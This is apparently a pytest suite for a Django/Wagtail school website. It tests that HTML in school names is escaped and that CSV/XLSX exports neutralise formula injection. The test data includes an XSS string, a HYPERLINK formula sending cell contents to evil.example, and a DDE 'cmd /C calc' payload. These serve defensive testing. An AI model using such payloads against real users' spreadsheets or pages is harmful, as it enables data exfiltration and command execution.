"""Input hardening: user-given text never becomes markup in generated HTML, and never becomes a
formula in a spreadsheet export."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from district_site.factories import make_member
from district_site.provisioning import provision_school
from home.exports import FORMULA_STARTS, safe_cell
from school_site.models import AboutPage, BoardPage, ContributorGroup, NewsIndexPage
from scoring import exports, selectors, services
from tests.scoring.helpers import draft_news, publish

HOSTILE_NAME = 'Trường <script>alert(1)</script> & "Hoa <b>Sen</b>"'


@pytest.mark.django_db
def test_a_school_name_with_html_is_escaped_in_its_default_pages(client):
    school = provision_school(
        name=HOSTILE_NAME, kind="primary", hostname="hoa-sen.localhost"
    ).school
    home = school.site.root_page.specific
    news = home.get_children().type(NewsIndexPage).get().specific
    about = home.get_children().type(AboutPage).get().specific
    board = about.get_children().type(BoardPage).get().specific

    stored = [home.intro, news.intro, str(about.body), board.regulations]
    for html in stored:
        assert "<script>" not in html
        assert "<b>Sen</b>" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    for page in (home, news, about, board):
        response = client.get(page.url, HTTP_HOST="hoa-sen.localhost")
        assert response.status_code == 200
        body = response.content.decode()
        assert "<script>alert(1)</script>" not in body, page.title
        assert "<b>Sen</b>" not in body, page.title


# --- Spreadsheet exports ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_safe_cell_neutralises_text_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Tổ Toán", "Nguyễn Văn A", "", "a=b", -2, -2.5, Decimal("-1.5"), 0, None]
)
def test_safe_cell_keeps_plain_text_and_every_number(value):
    assert safe_cell(value) == value


HOSTILE_GROUP = '=HYPERLINK("http://evil.example","Bấm vào đây")'
HOSTILE_AUTHOR = "@SUM(1+1)"
HOSTILE_SCHOOL = "-Trường +1"


@pytest.fixture
def hostile_sheet(db, school_a, board_a):
    """A credited post whose group, author name and school name a spreadsheet would run."""
    editor = make_member(school_a, "tac_gia")
    editor.first_name, editor.last_name = HOSTILE_AUTHOR, ""
    editor.save()
    school_a.name = HOSTILE_SCHOOL
    school_a.save()
    group = ContributorGroup.objects.create(school=school_a, name=HOSTILE_GROUP)
    group.members.add(editor)
    publish(draft_news(school_a, editor, group=group), board_a)
    return services.school_year_for(moment=timezone.now())


def _all_csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("by", ["author", "group", "school"])
def test_csv_export_neutralises_formulas(hostile_sheet, by):
    rows = selectors.score_sheet(school_year=hostile_sheet, by=by)
    cells = _all_csv_cells(exports.sheet_csv(rows=rows, by=by))
    assert cells, by
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), (by, cell)
    hostile = {"author": HOSTILE_AUTHOR, "group": HOSTILE_GROUP, "school": HOSTILE_SCHOOL}[by]
    assert "'" + hostile in cells


@pytest.mark.parametrize("by", ["author", "group", "school"])
def test_xlsx_export_neutralises_formulas_and_keeps_numbers(hostile_sheet, by):
    rows = selectors.score_sheet(school_year=hostile_sheet, by=by)
    data = exports.sheet_xlsx(rows=rows, by=by, school_year=hostile_sheet)
    ws = load_workbook(io.BytesIO(data)).active
    formulas = []
    texts = []
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                formulas.append(cell.value)
            elif isinstance(cell.value, str):
                texts.append(cell.value)
    # The only formulas are the sheet's own column totals.
    assert formulas and all(f.startswith("=SUM(") for f in formulas), formulas
    for text in texts:
        assert not text.startswith(FORMULA_STARTS), (by, text)
    hostile = {"author": HOSTILE_AUTHOR, "group": HOSTILE_GROUP, "school": HOSTILE_SCHOOL}[by]
    assert "'" + hostile in texts
    # The first data row's points are still a number, not text.
    assert isinstance(ws.cell(8, 1).value, int)


def test_score_sheet_command_csv_neutralises_formulas(hostile_sheet):
    out = io.StringIO()
    call_command("score_sheet", "--year", hostile_sheet.label, "--by", "group", stdout=out)
    assert "'" + HOSTILE_GROUP in _all_csv_cells(out.getvalue())


@pytest.mark.django_db
def test_wagtails_own_csv_exports_neutralise_formulas(admin_client, school_a, editor_a, board_a):
    """Wagtail's admin reports export CSV with page titles a teacher typed; Wagtail turns
    formulas into text in its XLSX but writes CSV cells as they are (home.exports patches it)."""
    page = draft_news(school_a, editor_a)
    page.title = HOSTILE_GROUP
    page.save_revision(user=editor_a)
    publish(page, board_a)
    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
    assert response.status_code == 200
    cells = _all_csv_cells(b"".join(response.streaming_content).decode("utf-8-sig"))
    assert "'" + HOSTILE_GROUP in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
